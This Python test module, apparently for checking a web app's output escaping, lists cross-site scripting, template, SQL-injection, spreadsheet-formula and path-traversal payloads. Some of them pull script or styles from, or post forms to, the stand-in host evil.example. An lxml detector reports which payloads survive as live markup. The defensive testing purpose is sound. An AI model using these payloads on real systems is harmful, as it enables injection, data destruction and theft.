"""What attackers write where a text is asked for, and what of it must not come alive in a page.

Shapes after the cheat sheets of OWASP (cross-site scripting, injection) and PortSwigger.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from itertools import product

from lxml import html

PAYLOADS = (
    "<script>evil(1)</script>",
    "</script><script>evil(1)</script>",
    '"><script>evil(1)</script>',
    "<img src=x onerror=evil(1)>",
    "\"><img src=x onerror='evil(1)'>",
    "' onmouseover='evil(1)",
    '" autofocus onfocus="evil(1)',
    "` onclick=`evil(1)",
    "<svg onload=evil(1)>",
    "<svg><animate onbegin=evil(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=evil(1)>",
    "<iframe srcdoc='<script>parent.evil(1)</script>'></iframe>",
    "<object data='javascript:evil(1)'></object>",
    "<embed src='javascript:evil(1)'>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href='//evil.example/evil.css'>",
    "<style>@import '//evil.example/evil.css';</style>",
    "</style><evil>",
    "</textarea><evil>",
    "</title><evil>",
    "</option></select><evil>",
    "--><evil><!--",
    "<![CDATA[<evil>]]>",
    "<a href='javascript:evil(1)'>evil</a>",
    "javascript:evil(1)",
    " java&#x0A;script:evil(1)",
    "data:text/html,<script>evil(1)</script>",
    "&lt;script&gt;evil(1)&lt;/script&gt;",
    "<scr<script>ipt>evil(1)</scr</script>ipt>",
    "<details open ontoggle=evil(1)>",
    "<form action='//evil.example'><button>evil",
    "<x-evil contenteditable onblur=evil(1)>",
    "{{ 7|add:7 }}{% evil %}",
    "${evil(1)} #{evil} <%= evil %>",
    "%(evil)s %s %n {evil} {0.__class__}",
    "'; DROP TABLE collect_submission; -- evil",
    "' OR '1'='1' UNION SELECT evil --",
    '"] || evil || ["',
    "=cmd|'/c evil'!A1",
    "../../../../etc/passwd%00evil",
    "\u202eevil\u202c <b onclick=evil(1)>",
)
_OUT = ("", '"', "' ", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>")
_ALIVE = (
    "<script defer>evil(1)</script>",
    "<ScRiPt src=//evil.example/evil.js></sCrIpT>",
    "<img src=x onerror=evil(1)>",
    "<image href=x onerror=evil(1)>",
    "<video><source onerror=evil(1)></video>",
    "<audio src=x onerror=evil(1)>",
    "<svg onload=evil(1)>",
    "<svg><script href='data:text/javascript,evil(1)'></script></svg>",
    "<svg><a xlink:href='javascript:evil(1)'><text>evil</text></a></svg>",
    "<math href='javascript:evil(1)'>evil</math>",
    "<p contenteditable oninput=evil(1)>evil</p>",
    "<input autofocus onfocus=evil(1)>",
    "<details open ontoggle=evil(1)>",
    "<marquee onstart=evil(1)>evil</marquee>",
    "<iframe src='javascript:evil(1)'></iframe>",
    "<object data='data:text/html,<script>evil(1)</script>'></object>",
    "<a href='java\tscript:evil(1)'>evil</a>",
    "<button formaction='javascript:evil(1)' form=evil>evil</button>",
    "<style media=all>*{background:url('//evil.example/evil')}</style>",
    "<x-evil style='animation:evil' onanimationstart=evil(1)>",
)
_WRITTEN: tuple[dict[str, str | int | None], ...] = (
    {},
    {" ": "/"},
    {"<": "&lt;", ">": "&gt;", "'": "&#39;"},
    {"<": "\uff1c", ">": "\uff1e"},  # which some ways to write Unicode alike make the real ones
    {"<": "\\u003c", ">": "\\u003e", "'": "\\x27"},
)
# Every way out of what a text may stand in, before everything that lives, written in every way.
THOUSAND = tuple(
    (out + living).translate(str.maketrans(written))
    for out, living, written in product(_OUT, _ALIVE, _WRITTEN)
)
_ADDRESSES = {"href", "src", "action", "formaction", "data", "poster", "srcset", "xlink:href"}
_NEVER = {"iframe", "object", "embed", "base", "math", "evil", "x-evil", "style", "animate"}


def alive(page: str) -> list[str]:
    """What of the payloads became more than words."""
    return list(_alive(html.document_fromstring(page)))


def _alive(tree: html.HtmlElement) -> Iterator[str]:
    for element in tree.iter():
        if not isinstance(element.tag, str):
            if "evil" in (element.text or ""):
                yield f"comment {element.text}"
            continue
        if element.tag in _NEVER:
            yield f"<{element.tag}>"
        data = element.get("type", "").endswith("json")
        if element.tag == "script" and not data and (element.text or "").strip():
            yield f"script {element.text}"
        for name, value in element.attrib.items():
            scheme = re.sub(r"[\x00-\x20]", "", value).lower()
            if name.startswith("on") or "evil" in name or name in {"style", "srcdoc"}:
                yield f"{element.tag} {name}"
            if name in _ADDRESSES and re.match(r"(java|vb)script:|data:text|//evil|x$", scheme):
                yield f"{element.tag} {name}={value}"
